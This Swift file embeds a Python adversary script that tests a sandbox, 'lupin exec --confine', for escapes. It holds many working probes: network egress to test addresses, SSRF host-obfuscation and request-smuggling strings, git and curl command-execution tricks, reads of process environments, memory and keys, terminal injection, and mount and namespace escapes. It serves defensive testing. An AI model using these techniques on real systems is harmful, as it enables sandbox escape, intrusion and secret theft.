// A program that tries to get out of `lupin exec --confine`: bytes out, or secrets in.

/// What the confined program runs: Python, with nothing but its standard library.
///
/// Each attempt prints a line, `kept` or `OPEN` and its name. An attempt that raises is kept.
enum Adversary {
    static let script = #"""
        import ctypes, errno, fcntl, http.client, json, os, signal, socket, struct, subprocess, sys
        facts = json.loads(sys.argv[1])
        port, folder, secret = facts["port"], facts["folder"], facts["secret"]
        libc = ctypes.CDLL(None, use_errno=True)
        attempts = []
        def attempt(function):
            attempts.append((function.__name__.replace("_", " "), function))
            return function
        def call(number, *arguments):
            result = libc.syscall(ctypes.c_long(number), *arguments)
            if result < 0: raise OSError(ctypes.get_errno(), "refused")
            return result
        def each(name, function, *cases):
            for case in cases: attempts.append((f"{name} {case}", lambda case=case: function(case)))

        # Past the proxy
        def connects(target):
            host, to = target
            family = socket.AF_INET6 if ":" in host else socket.AF_INET
            s = socket.socket(family, socket.SOCK_STREAM); s.settimeout(2)
            s.connect((host, to)); s.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
            # lupin takes the connection, to refuse it.
            answer = s.recv(64)
            return answer != b"" and answer[:12] != b"HTTP/1.1 403" and answer[0] != 21
        each("TCP to", connects, ("127.0.0.1", port), ("::1", port), ("192.0.2.1", 80),
             ("2001:db8::1", 443), ("169.254.169.254", 80), ("0.0.0.0", port), ("127.0.0.53", 53),
             ("192.0.2.1", port), ("198.18.0.1", port), ("2001:db8::1", 80), ("192.0.2.1", 53))
        each("TCP to lupin's own port", lambda to: connects(("127.0.0.1", to)), 61081, 61053)
        def sends(target):
            host, to = target
            family = socket.AF_INET6 if ":" in host else socket.AF_INET
            s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(1); s.connect((host, to))
            s.send(b"out"); s.recv(1); return True
        each("UDP to", sends, ("127.0.0.1", port), ("::1", port), ("192.0.2.1", 53))
        @attempt
        def ICMP():
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
            s.sendto(b"\x08\0\xf7\xff\0\0\0\0", ("192.0.2.1", 0)); return True
        @attempt
        def a_raw_socket(): socket.socket(socket.AF_INET, socket.SOCK_RAW, 255); return True
        @attempt
        def a_packet_socket(): socket.socket(17, socket.SOCK_RAW, 0x300); return True
        @attempt
        def a_socket_of_virtual_machines(): socket.socket(40, socket.SOCK_STREAM); return True
        @attempt
        def a_name():
            found = {address[4][0] for address in socket.getaddrinfo("example.com", 80)}
            return any(not address.startswith("198.18.") for address in found)
        each("TCP to the name", lambda name: connects((name, port)), "denied.test", "lupin")
        def asks(question):
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
            s.sendto(question, ("192.0.2.1", 53)); return secret.encode() in s.recv(4096)
        each("a question with", asks, b"", b"\0" * 11, b"\0" * 12, bytes(range(256)) * 16)
        @attempt
        def a_route():
            s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
            link = struct.pack("=BxHiII", 0, 0, 0, 0, 0) + struct.pack("=HH8s", 12, 3, b"out0\0")
            s.send(struct.pack("=IHHII", 16 + len(link), 16, 0x605, 1, 0) + link)
            return struct.unpack("=i", s.recv(64)[16:20])[0] == 0
        @attempt
        def an_abstract_socket():
            s = socket.socket(socket.AF_UNIX); s.connect("\0" + facts["abstract"]); return True
        @attempt
        def the_admin_socket():
            s = socket.socket(socket.AF_UNIX); s.connect(facts["admin"]); return True
        @attempt
        def the_admin_socket_by_way_of_the_first_process():
            s = socket.socket(socket.AF_UNIX); s.connect("/proc/1/root" + facts["admin"])
            return True
        @attempt
        def the_network_of_the_first_process():
            call(308, os.open("/proc/1/ns/net", os.O_RDONLY), 0)
            return connects(("127.0.0.1", port))
        @attempt
        def a_network_of_its_own():
            code = f"import socket; socket.create_connection(('127.0.0.1', {port}), 1).send(b'out')"
            return subprocess.run(["unshare", "-Urn", sys.executable, "-c", code],
                stderr=subprocess.DEVNULL).returncode == 0

        # Through the proxy
        proxy = ("127.0.0.1", int(os.environ["http_proxy"].rsplit(":", 1)[1].strip("/")))
        def ask(bytes):
            s = socket.create_connection(proxy, 5); s.sendall(bytes); s.settimeout(2)
            answer = b""
            try:
                while True:
                    part = s.recv(65536)
                    if not part: break
                    answer += part
            except socket.timeout: pass
            return answer
        def passes(bytes):
            first = ask(bytes).split(b"\r\n")[0]
            return first != b"" and first.split(b" ")[1:2] not in ([b"403"], [b"400"], [b"421"],
                [b"404"], [b"405"], [b"501"], [b"502"], [b"508"])
        def succeeds(bytes): return ask(bytes).split(b"\r\n")[0].split(b" ")[1:2] == [b"200"]
        def fetches(host): return passes(
            f"GET http://{host}/ HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
        each("the proxy fetches", fetches, f"127.0.0.1:{port}", f"localhost:{port}",
             f"[::1]:{port}", f"127.1:{port}", f"2130706433:{port}", f"0x7f000001:{port}",
             f"0.0.0.0:{port}", f"[::ffff:127.0.0.1]:{port}", f"LOCALHOST.:{port}",
             "169.254.169.254", f"denied.test:{port}")
        def tunnels(host):
            answers = ask((f"CONNECT {host} HTTP/1.1\r\nHost: {host}\r\n\r\n"
                f"GET / HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n").encode())
            # A tunnel that is decrypted is granted; what counts is the answer inside.
            return b"HTTP/1.1 403" not in answers and not answers.startswith(b"HTTP/1.1 400")
        each("the proxy connects to", tunnels, f"127.0.0.1:{port}", f"localhost:{port}",
             f"[::1]:{port}", f"denied.test:{port}", "192.0.2.1:22", "169.254.169.254:80",
             f"LOCALHOST:{port}", f"localhost.:{port}", f"127.0.0.1.:{port}", f"0x7f.1:{port}",
             f"127.1:{port}", f"2130706433:{port}", f"017700000001:{port}", f"0:{port}",
             f"[::ffff:127.0.0.1]:{port}", f"[::ffff:7f00:1]:{port}", f"%31%32%37.0.0.1:{port}",
             f"DENIED.test.:{port}", f"denied%2etest:{port}", f"allowed.test@127.0.0.1:{port}",
             f"allowed.test%00.127.0.0.1:{port}", f"127.0.0.1:{port}#allowed.test")
        def redirects(to): return succeeds((f"GET http://redirects.test/?{to} HTTP/1.1\r\n"
            "Host: redirects.test\r\nConnection: close\r\n\r\n").encode())
        each("a redirect to", redirects, f"http://127.0.0.1:{port}/", f"//localhost:{port}/",
             f"http://[::1]:{port}/", f"http://0x7f.1:{port}/", f"https://127.0.0.1:{port}/",
             f"http://allowed.test@127.0.0.1:{port}/", f"http://denied.test:{port}/",
             f"https://denied.test:{port}/", f"http://127.0.0.1.:{port}/", "http://lupin/v1/rules",
             "http://169.254.169.254/latest/", f"http://127.0.0.1:{proxy[1]}/v1/rules")
        each("the proxy serves", fetches, "lupin/v1/rules", f"127.0.0.1:{proxy[1]}/v1/rules",
             "lupin/v1/tokens")
        @attempt
        def a_reload(): return passes(
            b"POST http://lupin/v1/reload HTTP/1.1\r\nHost: lupin\r\nContent-Length: 0\r\n\r\n")
        @attempt
        def another_Host(): return b"yes" not in ask((
            f"GET http://allowed.test/ HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n"
            "Connection: close\r\n\r\n").encode())
        @attempt
        def a_request_in_a_body():
            inner = f"GET http://127.0.0.1:{port}/ HTTP/1.1\r\nHost: x\r\n\r\n"
            return ask((f"POST http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\n"
                f"Content-Length: {len(inner)}\r\nTransfer-Encoding: chunked\r\n\r\n"
                f"0\r\n\r\n{inner}").encode()).startswith(b"HTTP/1.1 200")

        # By tools that go their own ways
        probe, reached = f"{folder}/probe", f"{folder}/reached"
        def reaches(words, **variables):
            if not os.path.exists(probe):
                with open(probe, "w") as file: file.write(f"#!{sys.executable}\nimport socket\n"
                    f"s = socket.create_connection(('127.0.0.1', {port}), 2); s.send(b'out')\n"
                    f"open('{reached}', 'w')\n")
                os.chmod(probe, 0o755)
            done = subprocess.run(words, env=dict(os.environ, **variables), timeout=15,
                stdin=subprocess.DEVNULL, capture_output=True)
            return os.path.exists(reached) or words[0] == "curl" and done.returncode == 0
        git = ["git", "-c", "protocol.allow=always", "ls-remote"]
        def by_git(case):
            url, variable = case
            return reaches(git + [url], **({variable: probe} if variable else {}))
        each("git by", by_git, (f"ext::{probe}", ""), (f"ssh://127.0.0.1:{port}/a", ""),
             (f"ssh://127.0.0.1:{port}/a", "GIT_SSH_COMMAND"), (f"git://127.0.0.1:{port}/a", ""),
             (f"git://127.0.0.1:{port}/a", "GIT_PROXY_COMMAND"),
             (f"http://127.0.0.1:{port}/a", "GIT_ASKPASS"))
        def by_curl(words): return reaches(["curl", "-sfm3", "-o", "/dev/null"] + words.split())
        each("curl by", by_curl, *[f"{way}{scheme}://127.0.0.1:{port}/_out" for scheme in
             ("gopher", "ftp", "dict", "telnet", "tftp", "ldap", "mqtt", "rtsp", "smtp", "sftp")
             for way in ("", "--noproxy * ", f"-px http://127.0.0.1:{proxy[1]} ")],
             f"-x socks5h://127.0.0.1:{proxy[1]} http://127.0.0.1:{port}/",
             f"--connect-to allowed.test:80:127.0.0.1:{port} --noproxy * http://allowed.test/",
             f"--resolve allowed.test:{port}:127.0.0.1 --noproxy * http://allowed.test:{port}/")

        # Secrets
        def read(path):
            with open(path, "rb") as file: return file.read(1 << 20)
        def holds(path): return secret.encode() in read(path)
        each("reading", lambda name: holds(f"{folder}/{name}"), "lupin.yaml", "token", "log")
        each("reading by the first process", lambda name: holds(f"/proc/1/root{folder}/{name}"),
             "lupin.yaml", "token")
        @attempt
        def the_key_of_the_CA(): return b"PRIVATE KEY" in read(f"{folder}/ca.key")
        @attempt
        def variables_of_any_process():
            return any(holds(f"/proc/{id}/environ") for id in os.listdir("/proc") if id.isdigit())
        @attempt
        def memory_of_the_first_process():
            os.open("/proc/1/mem", os.O_RDONLY); return True
        @attempt
        def descriptors_of_the_first_process():
            all = "/proc/1/fd"
            return any("socket" in os.readlink(f"{all}/{fd}") for fd in os.listdir(all))
        @attempt
        def a_descriptor_of_lupin():
            own = [os.readlink(f"/proc/self/fd/{fd}") for fd in range(3, 64)
                if os.path.exists(f"/proc/self/fd/{fd}")]
            return any(name.startswith("socket") for name in own)
        @attempt
        def tracing(): return libc.ptrace(16, 1, 0, 0) == 0
        @attempt
        def taking_a_descriptor(): call(438, call(434, 1, 0), 0, 0); return True
        @attempt
        def a_file_by_its_handle():
            handle = struct.pack("=Ii8s", 8, 1, b"\x02\0\0\0\0\0\0\0")
            call(304, os.open("/", os.O_RDONLY), handle, os.O_RDONLY); return True
        @attempt
        def ending_the_first_process():
            os.kill(1, signal.SIGKILL); os.kill(1, 0); return not os.path.exists("/proc/1")

        # The hides
        rules = f"{folder}/lupin.yaml"
        @attempt
        def writing_the_rules(): open(rules, "a").write("x"); return True
        @attempt
        def removing_the_rules(): os.unlink(rules); return True
        @attempt
        def other_rules_in_their_place():
            open(f"{folder}/new", "w").write("lupin: 1\n"); os.rename(f"{folder}/new", rules)
            return True
        @attempt
        def moving_their_folder(): os.rename(folder, folder + "2"); return True
        @attempt
        def unmounting():
            if libc.umount2(rules.encode(), 2) != 0: raise OSError(ctypes.get_errno(), "refused")
            return True
        def nested(command): return subprocess.run(["unshare", "-Urm", "sh", "-c", command],
            capture_output=True)
        @attempt
        def unmounting_as_another_root():
            return secret.encode() in nested(f"umount -l {rules}; cat {rules}").stdout
        @attempt
        def mounting_the_root_elsewhere():
            os.makedirs(f"{folder}/m", exist_ok=True)
            return secret.encode() in nested(
                f"mount --bind / {folder}/m; cat {folder}/m{rules}").stdout
        @attempt
        def another_root(): os.chroot("/tmp"); return True
        @attempt
        def a_device(): os.mknod(f"{folder}/device", 0o60600, os.makedev(254, 0)); return True
        each("opening", lambda path: os.open(path, os.O_RDONLY) >= 0, "/dev/mem", "/dev/vda",
             "/dev/sda", "/dev/kmsg", "/dev/kvm")
        each("changing", lambda path: os.open(path, os.O_WRONLY) >= 0,
             "/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/kernel/uevent_helper",
             "/proc/sys/kernel/modprobe")
        @attempt
        def typing_into_the_terminal():
            for fd in range(3): fcntl.ioctl(fd, 0x5412, b"x")
            return True
        # add_key, request_key, and keyctl: a session keyring, the user's, reading, joining
        each("the kernel's keys by", lambda call_: call(*call_) >= 0,
             (248, b"user", b"x", b"y", 1, -3), (249, b"user", b"planted", None, -3),
             (250, 0, -3, 1), (250, 0, -4, 0), (250, 11, -3, bytes(64), 64), (250, 1, None),
             (250, 8, -4, -3), (250, 6, -5, bytes(64), 64))
        @attempt
        def a_ring_of_calls(): call(425, 8, bytes(120)); return True
        @attempt
        def becoming_another_user(): os.setuid(65533); return True
        @attempt
        def gaining_rights_by_a_program():
            return subprocess.run(["su", "-c", "true"], stdin=subprocess.DEVNULL,
                capture_output=True).returncode == 0 and os.geteuid() != 0

        for name, function in attempts:
            try: isOpen = function()
            except BaseException: isOpen = False
            print("OPEN" if isOpen else "kept", name, flush=True)
        """#
}
